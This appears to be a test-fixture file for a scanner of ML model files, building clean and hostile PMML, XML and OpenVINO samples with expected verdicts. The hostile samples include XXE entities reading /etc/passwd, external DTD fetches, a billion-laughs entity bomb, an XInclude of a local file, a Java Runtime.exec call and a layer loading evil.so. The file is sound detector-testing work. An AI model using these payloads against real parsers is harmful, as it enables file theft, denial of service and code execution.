// XML documents, PMML and OpenVINO models, plain and hostile.
import type { Sample } from './sample.ts';

/** A PMML regression with `body` in it and `prolog` before it. */
export function buildPmml(body = '', prolog = ''): Uint8Array {
  return new TextEncoder().encode(
    `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">
  <Header copyright="testkit"><Application name="testkit" version="1"/></Header>
  <DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  ${body}
  <RegressionModel functionName="regression"><RegressionTable intercept="1"/></RegressionModel>
</PMML>\n`,
  );
}

/** An OpenVINO model of the given layer types. */
export function buildOpenvino(layers: readonly (readonly [type: string, version: string])[], prolog = ''): Uint8Array {
  const lines = layers.map(
    ([type, version], index) =>
      `<layer id="${index}" name="l${index}" type="${type}" version="${version}"><data/></layer>`,
  );
  return new TextEncoder().encode(
    `<?xml version="1.0"?>\n${prolog}<net name="net" version="11">\n<layers>${lines.join('\n')}</layers><edges/></net>\n`,
  );
}

const text = (value: string): Uint8Array => new TextEncoder().encode(value);

function utf16(value: string): Uint8Array {
  return Uint8Array.from([0xff, 0xfe, ...Buffer.from(value, 'utf16le')]);
}

const laughs = ['<!ENTITY a0 "hahahahaha">']
  .concat(Array.from({ length: 9 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`))
  .join('\n');

export const samples: readonly Sample[] = [
  { name: 'plain.pmml', build: () => buildPmml(), verdict: 'clean', because: 'a regression' },
  {
    name: 'extension.pmml',
    build: () => buildPmml('<Extension extender="KNIME" name="layout" value="1"/>'),
    verdict: 'clean',
    because: 'an extension with layout data',
  },
  {
    name: 'builtin-functions.pmml',
    build: () =>
      buildPmml(
        '<TransformationDictionary><DefineFunction name="my.f" optype="continuous"/><DerivedField name="d" optype="continuous" dataType="double"><Apply function="my.f"/><Apply function="ln"/></DerivedField></TransformationDictionary>',
      ),
    verdict: 'clean',
    because: 'a builtin function and one that the file defines',
  },
  {
    name: 'xxe.pmml',
    build: () => buildPmml('<Extension>&x;</Extension>', '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'),
    verdict: 'malicious',
    check: 'xml-external-entity',
    because: 'an entity stands for a local file',
  },
  {
    name: 'parameter-entity.pmml',
    build: () => buildPmml('', '<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]>\n'),
    verdict: 'malicious',
    check: 'xml-external-entity',
    because: 'a parameter entity fetches declarations',
  },
  {
    name: 'external-subset.pmml',
    build: () => buildPmml('', '<!DOCTYPE PMML SYSTEM "http://203.0.113.9/x.dtd">\n'),
    verdict: 'malicious',
    check: 'xml-external-entity',
    because: 'the document type is fetched from an address',
  },
  {
    name: 'laughs.pmml',
    build: () => buildPmml('<Extension>&a9;</Extension>', `<!DOCTYPE PMML [${laughs}]>\n`),
    verdict: 'malicious',
    check: 'xml-external-entity',
    because: 'nested entities expand to a thousand million characters',
  },
  {
    name: 'xxe-utf16.pmml',
    build: () =>
      utf16(
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>',
      ),
    verdict: 'malicious',
    check: 'xml-external-entity',
    because: 'the same in UTF-16',
  },
  {
    name: 'script.pmml',
    build: () => buildPmml('<Extension name="script"><script>print(1)</script></Extension>'),
    verdict: 'suspicious',
    check: 'pmml-code',
    because: 'an extension holds a script',
  },
  {
    name: 'command.pmml',
    build: () =>
      buildPmml('<Extension name="init"><![CDATA[java.lang.Runtime.getRuntime().exec("touch /tmp/x")]]></Extension>'),
    verdict: 'malicious',
    check: 'pmml-code',
    because: 'an extension starts a program',
  },
  {
    name: 'java-class.pmml',
    build: () =>
      buildPmml(
        '<TransformationDictionary><DerivedField name="d" optype="continuous" dataType="double"><Apply function="com.example.Evil"/></DerivedField></TransformationDictionary>',
      ),
    verdict: 'suspicious',
    check: 'pmml-code',
    because: 'a function is the name of a Java class',
  },
  {
    name: 'annotation.xml',
    build: () =>
      text(
        '<?xml version="1.0"?>\n<annotation><filename>a.jpg</filename><object><name>cat</name></object></annotation>\n',
      ),
    verdict: 'clean',
    because: 'an annotation of a data set',
  },
  {
    name: 'plist.xml',
    build: () =>
      text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>\n',
      ),
    verdict: 'clean',
    because: 'every property list names this document type',
  },
  {
    name: 'xxe.xml',
    build: () => text('<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n<a>&x;</a>\n'),
    verdict: 'malicious',
    check: 'xml-external-entity',
    because: 'an entity stands for a local file',
  },
  {
    name: 'include.xml',
    build: () =>
      text(
        '<?xml version="1.0"?>\n<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>\n',
      ),
    verdict: 'malicious',
    check: 'xml-external-entity',
    because: 'a local file is included',
  },
  {
    name: 'deep.xml',
    build: () => text(`<?xml version="1.0"?>\n${'<a>'.repeat(5000)}`),
    verdict: 'incomplete',
    because: 'elements are nested more deeply than is followed',
  },
  {
    name: 'plain-openvino.xml',
    build: () =>
      buildOpenvino([
        ['Parameter', 'opset1'],
        ['ReLU', 'opset1'],
        ['Result', 'opset1'],
      ]),
    verdict: 'clean',
    because: 'standard layers of OpenVINO',
  },
  {
    name: 'extension-openvino.xml',
    build: () =>
      buildOpenvino([
        ['Parameter', 'opset1'],
        ['EvilOp', 'custom_opset'],
      ]),
    verdict: 'suspicious',
    check: 'graph-unknown-operator',
    because: 'a layer that needs an extension library',
  },
  {
    name: 'unknown-type-openvino.xml',
    build: () => buildOpenvino([['NoSuchLayer', 'opset1']]),
    verdict: 'suspicious',
    check: 'graph-unknown-operator',
    because: 'a type that the operator set does not have',
  },
  {
    name: 'library-openvino.xml',
    build: () =>
      text(
        '<?xml version="1.0"?>\n<net name="n" version="11"><layers><layer id="0" name="l" type="ReLU" version="opset1"><data library="evil.so"/></layer></layers></net>',
      ),
    verdict: 'malicious',
    check: 'graph-external-file',
    because: 'a layer names a program library',
  },
  {
    name: 'xxe-openvino.xml',
    build: () => buildOpenvino([['Parameter', 'opset1']], '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'),
    verdict: 'malicious',
    check: 'xml-external-entity',
    because: 'an entity in a model stands for a local file',
  },
];
